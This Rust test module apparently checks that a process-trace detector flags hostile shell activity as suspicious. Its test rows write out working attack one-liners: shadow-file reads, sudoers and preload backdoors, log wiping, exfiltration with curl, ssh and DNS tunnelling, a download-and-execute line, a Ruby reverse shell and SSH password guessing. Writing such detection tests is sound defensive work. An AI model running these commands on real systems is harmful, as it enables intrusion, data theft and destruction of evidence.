//! What shells are told, done or not, and habits that need no more than a command line.

use types::{Kind, StdioKind};

use super::Expect::Suspicious;
use super::{Row, runs, shell};
use crate::trace::{ENOENT, ROOT, Trace, append, exec, open_new, write};

/// Commands that no process ever ran: a missing `sudo`, a missing tool, a folder that is not there.
pub(super) const STATED: &[Row] = &[
    ("shadow-read", Suspicious, |t| {
        shell(t, "sudo cat /etc/shadow > /tmp/x");
    }),
    ("library-preload", Suspicious, |t| {
        shell(t, "sudo sh -c 'echo /opt/x.so > /etc/ld.so.preload'");
    }),
    ("sudo-rule", Suspicious, |t| {
        shell(t, "f=/etc/sudoers; echo 'ann ALL=(ALL) NOPASSWD: ALL' | sudo tee -a \"$f\"");
    }),
    ("module-load", Suspicious, |t| {
        shell(t, "sudo insmod ./x.ko || echo no");
    }),
    ("security-tool-stopped", Suspicious, |t| {
        shell(t, "if [ -x /bin/x ]; then setenforce 0; fi");
    }),
    ("firewall-disabled", Suspicious, |t| {
        shell(t, "ufw disable");
    }),
    ("log-tampering", Suspicious, |t| runs(t, "rm -rf /var/log/messages")),
    ("history-cleared", Suspicious, |t| runs(t, "truncate -s0 /home/sandbox/.bash_history")),
    ("history-prevented", Suspicious, |t| {
        shell(t, "export HISTFILE=\"/dev/null\"; whoami");
    }),
    ("login-configuration", Suspicious, |t| {
        shell(t, "doas sed -i '1s,^,auth sufficient x.so,' /etc/pam.d/su");
    }),
    ("root-certificate", Suspicious, |t| {
        let cp = t.command(ROOT, "cp my.crt /etc/pki/ca-trust/source/anchors/");
        t.event(cp, Kind::Exit { code: Some(1), signal: None, thread: false });
    }),
    ("setuid-bit", Suspicious, |t| {
        shell(t, "sudo chmod g+xs /opt/tool");
    }),
    ("sensitive-upload", Suspicious, |t| {
        shell(t, "tar czf - /srv | openssl des3 -pass pass:x | ssh ann@10.0.0.9 'cat > b'");
    }),
    ("sensitive-upload", Suspicious, |t| {
        runs(t, "wget --post-file=/srv/list.csv https://example.org/");
    }),
    ("key-logging", Suspicious, |t| {
        shell(t, "PROMPT_COMMAND='history -a >(tee -a ~/.h | logger -t x)'");
    }),
    ("sandbox-checks", Suspicious, |t| {
        shell(t, "sudo lsmod | grep -i 'vboxguest'; sudo lsmod | grep -i vmw_balloon");
    }),
    ("dns-tunnel", Suspicious, |t| {
        shell(t, "dig @10.0.0.9 $(base64 /data/notes).x.example.org");
    }),
    ("anonymity-proxy", Suspicious, |t| {
        shell(t, "sudo systemctl start tor");
    }),
];

/// The same in a script, whose text is part of the recording.
pub(super) const SCRIPTS: &[Row] = &[
    ("module-load", Suspicious, |t| script(t, "set -e\nsudo insmod ./x.ko\n")),
    ("history-cleared", Suspicious, |t| script(t, "history -c")),
    ("command-in-trap", Suspicious, |t| script(t, "trap 'nohup sh /opt/x' EXIT\n")),
    ("library-preload", Suspicious, |t| script(t, "LD_PRELOAD=/tmp/.x.so ls\n")),
];

/// A run of `sh x.sh` instead of the sample.
fn script(t: &mut Trace, text: &str) {
    *t = Trace::of("/usr/bin/dash", &["sh", "x.sh"]);
    t.recording.run.script = Some(text.into());
}

pub(super) const HABITS: &[Row] = &[
    ("escaped-shell", Suspicious, |t| {
        let awk = t.spawn(ROOT, "/usr/bin/mawk", &["awk", "BEGIN {system(\"/bin/sh\")}"]);
        let between = t.spawn(awk, "/usr/bin/dash", &["sh", "-c", "/bin/sh"]);
        t.spawn(between, "/usr/bin/dash", &["/bin/sh"]);
    }),
    ("escaped-shell", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/python3", &["python3", "-c", "import pty; pty.spawn('/bin/bash')"]);
    }),
    ("command-in-trap", Suspicious, |t| {
        shell(t, "trap 'nohup sh /opt/x.sh' EXIT");
    }),
    ("command-in-trap", Suspicious, |t| {
        shell(t, "trap 'echo \"$BASH_COMMAND\" >> /var/tmp/k' DEBUG; id");
    }),
    ("locked-archive", Suspicious, |t| runs(t, "zip --password x /var/tmp/a.zip a b")),
    ("locked-archive", Suspicious, |t| {
        runs(t, "openssl enc -aes-256-cbc -pass pass:x -in /tmp/a.zip -out /tmp/a.enc");
    }),
    ("archive-by-library", Suspicious, |t| {
        t.spawn(
            ROOT,
            "/usr/bin/python3",
            &["python3", "-c", "import tarfile; tarfile.open('/tmp/o','w').add('/etc/passwd')"],
        );
    }),
    ("system-file-encrypted", Suspicious, |t| {
        runs(t, "gpg --batch --passphrase-fd 0 -o /srv/p.gpg -c /etc/passwd");
    }),
    ("system-file-encrypted", Suspicious, |t| {
        runs(t, "openssl rsautl -encrypt -inkey k -pubin -in /etc/passwd -out p");
    }),
    ("padded-program", Suspicious, |t| {
        runs(t, "cp /usr/bin/true ./tool");
        let dd = t.command(ROOT, "dd if=/dev/zero bs=1 count=9");
        t.event(dd, write("/data/tool", &[0; 9]));
        t.spawn(ROOT, "/data/tool", &["./tool"]);
    }),
    ("padded-program", Suspicious, |t| {
        let child = t.fork(ROOT);
        t.event(child, append("/tmp/tool"));
        t.exec(child, "/usr/bin/head", &["head", "-c", "9", "/dev/urandom"]);
        t.event(child, write("/tmp/tool", &[7; 9]));
    }),
    ("padded-program", Suspicious, |t| runs(t, "truncate -s +1 /tmp/tool")),
    ("file-shredded", Suspicious, |t| runs(t, "shred -u /srv/ledger.db")),
    ("answers-kept", Suspicious, |t| {
        let child = t.fork(ROOT);
        t.event(child, open_new("/tmp/.l"));
        t.exec(child, "/usr/bin/cat", &["cat", "/etc/passwd"]);
    }),
    ("answers-kept", Suspicious, |t| {
        for line in ["uname -a", "ps aux", "ss -tanp"] {
            let child = t.fork(ROOT);
            t.event(child, append("/var/tmp/out"));
            let argv: Vec<&str> = line.split(' ').collect();
            t.exec(child, &format!("/usr/bin/{}", argv[0]), &argv);
        }
    }),
    ("hidden-folder", Suspicious, |t| {
        let mkdir = t.command(ROOT, "mkdir /var/tmp/.store");
        t.event(mkdir, Kind::Mkdir { path: "/var/tmp/.store".into() });
        t.writes(ROOT, "/var/tmp/.store/.list", b"x");
    }),
    ("process-behind-mount", Suspicious, |t| {
        shell(t, "sudo mount --bind /proc/7 /proc/$(cat pid)");
    }),
    ("processor-burned", Suspicious, |t| {
        let child = t.fork(ROOT);
        t.event(child, exec("/usr/bin/yes", &["yes"], vec![StdioKind::Other; 3]));
        t.wait(4000);
        t.exit(child);
    }),
    ("waiting-by-work", Suspicious, |t| {
        shell(t, "ping -c 300 10.0.0.9 > /dev/null; ./next");
    }),
    ("service-started", Suspicious, |t| {
        t.writes(ROOT, "/tmp/x.service", b"[Service]\nExecStart=/tmp/x\n");
        runs(t, "systemctl enable /tmp/x.service");
    }),
    ("service-started", Suspicious, |t| {
        shell(t, "systemd-run --unit=x --wait /bin/bash -c id");
    }),
    ("directory-account", Suspicious, |t| {
        shell(t, "ldapadd -H ldap://dc.example.org -x -D ann -w secret -f new.ldif");
    }),
    ("host-sweep", Suspicious, |t| {
        shell(t, "for i in $(seq 1 254); do ping -c 1 10.1.2.$i; done");
    }),
    ("host-sweep", Suspicious, |t| {
        for host in 1..20 {
            runs(t, &format!("ping -c 1 10.1.2.{host}"));
        }
    }),
    ("password-guessing", Suspicious, |t| {
        shell(t, "for p in $(cat list); do sshpass -p \"$p\" ssh ann@10.0.0.9 id; done");
    }),
    ("timestomp", Suspicious, |t| runs(t, "touch -acmr /bin/sh /srv/tool")),
    ("timestomp", Suspicious, |t| runs(t, "touch -t 197001010000.00 /srv/tool")),
    ("timestomp", Suspicious, |t| {
        let python = t.spawn(ROOT, "/usr/bin/python3", &["python3", "x.py"]);
        t.writes(python, "/data/tool", b"\x7fELF");
        t.event(python, Kind::SetTimes { path: "/data/tool".into(), seconds: 946_684_800 });
        t.spawn(python, "/data/tool", &["./tool"]);
    }),
    ("generated-names", Suspicious, |t| {
        for name in
            ["xkqzvbtrwp", "mznbvhgqla", "tqwrpzxcvb", "hjkdfgwqpz", "bnmqwrtzxc", "zxcvqwrtpl"]
        {
            runs(t, &format!("dig +short {name}.biz"));
        }
    }),
    ("directory-search", Suspicious, |t| {
        runs(t, "ldapsearch -x -D ann@example.org -w secret -b dc=example -s sub");
    }),
    ("locked-archive", Suspicious, |t| runs(t, "zip logins.zip /var/log/wtmp /var/log/btmp")),
    ("sensitive-upload", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/ssh", &["ssh", "h.example.org", "(cd /etc && tar -zcf - *)"]);
    }),
    ("shutdown", Suspicious, |t| {
        t.spawn(ROOT, "/usr/bin/systemctl", &["reboot", "-f"]);
    }),
    ("download-execute", Suspicious, |t| {
        let sh = shell(t, "wget http://203.0.113.7/arm7; chmod 777 arm7; ./arm7 start");
        t.command(sh, "wget http://203.0.113.7/arm7");
    }),
    ("sensitive-upload", Suspicious, |t| {
        runs(t, "curl -F data=@/tmp/out.tar.gz http://203.0.113.7:8888/up");
    }),
    ("privileged-file-search", Suspicious, |t| runs(t, "find / -type f -perm -333")),
    ("reverse-shell-command", Suspicious, |t| {
        t.spawn(
            ROOT,
            "/usr/bin/ruby",
            &["ruby", "-rsocket", "-ef=TCPSocket.open('10.0.0.9',1).to_i;exec '/bin/sh -i'"],
        );
    }),
    ("browser-credentials", Suspicious, |t| {
        let cp = t.command(ROOT, "cp /home/ann/.mozilla/firefox/x/logins.json /tmp/l");
        t.event(cp, Kind::Exit { code: Some(1), signal: None, thread: false });
    }),
    ("mailbox-cleared", Suspicious, |t| {
        let mkdir = t.command(ROOT, "mkdir -p /var/spool/mail/copy");
        t.failed(mkdir, Kind::Mkdir { path: "/var/spool/mail/copy".into() }, ENOENT);
    }),
];
